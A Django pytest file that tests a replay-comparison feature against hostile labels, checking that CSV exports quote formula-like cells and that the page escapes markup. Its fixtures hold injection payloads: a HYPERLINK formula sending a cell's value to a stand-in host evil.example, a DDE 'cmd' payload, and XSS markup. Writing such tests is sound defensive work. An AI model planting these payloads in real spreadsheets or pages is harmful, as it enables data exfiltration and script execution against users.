"""Hostile text in what a comparison shows: run labels and intent names (a classifier trained on an uploaded dataset
names its own intents) reach CSV exports, the page and its charts as text, never as a formula, markup or link."""

import csv
import io

import pytest
from django.test import Client

from controlplane.replays.comparison_services import replay_comparison_create
from controlplane.replays.models import ReplayRequest, ReplayRun
from tests.factories import pools, template_with_versions
from tests.replays.factories import finished_run

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = '<img src=x onerror="alert(1)"></script><a href="javascript:alert(2)">x</a>'


@pytest.fixture
def hostile_comparison(agent, sre):
    _, (v1, v2) = template_with_versions(agent, temperatures=(0.3, 0.2))
    staging, _ = pools(sre)
    runs = [finished_run(actor=agent, pool=staging, version=v, n=200, seed=i) for i, v in enumerate((v1, v2))]
    ReplayRun.objects.filter(pk=runs[0].pk).update(label=FORMULA)
    ReplayRun.objects.filter(pk=runs[1].pk).update(label=MARKUP)
    ReplayRequest.objects.filter(run__in=runs, seq__lt=50).update(intent="-2+3+cmd|' /C calc'!A0")
    return replay_comparison_create(actor=agent, run_ids=[r.pk for r in runs], label=FORMULA, resamples=100)


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(api_for, hostile_comparison):
    text = api_for("oncall").get(f"/api/v1/replay-comparisons/{hostile_comparison.pk}/export/?format=csv").content
    rows = list(csv.reader(io.StringIO(text.decode())))
    cells = [cell for row in rows for cell in row]
    assert all(not cell.startswith(("=", "+", "@")) for cell in cells if cell)
    assert ["# comparison", str(hostile_comparison.pk), "'" + FORMULA] in rows
    assert [cell for cell in cells if "cmd|" in cell and not cell.startswith("intents.")] == [
        f"'-2+3+cmd|' /C calc'!A0: end-to-end P{p}" for p in ("50", "99", "99.9")
    ]
    # Numbers stay numbers: the P99's (negative or positive) difference is written as a plain number.
    p99 = next(row for row in rows if row and row[0] == "latency.e2e_s.p99")
    float(p99[6])


def test_the_page_escapes_labels_everywhere(oncall, hostile_comparison):
    client = Client()
    client.force_login(oncall)
    body = client.get(f"/replays/comparisons/{hostile_comparison.pk}/").content.decode()
    assert "<img src=x" not in body and 'href="javascript:' not in body
    assert "&lt;img src=x" in body  # shown as text in the tables and the verdict
    script = body.split('id="comparison-charts"')[1].split("</script>")[0]
    assert "<img" not in script and "\\u003Cimg" in script  # json_script escapes markup inside its <script>
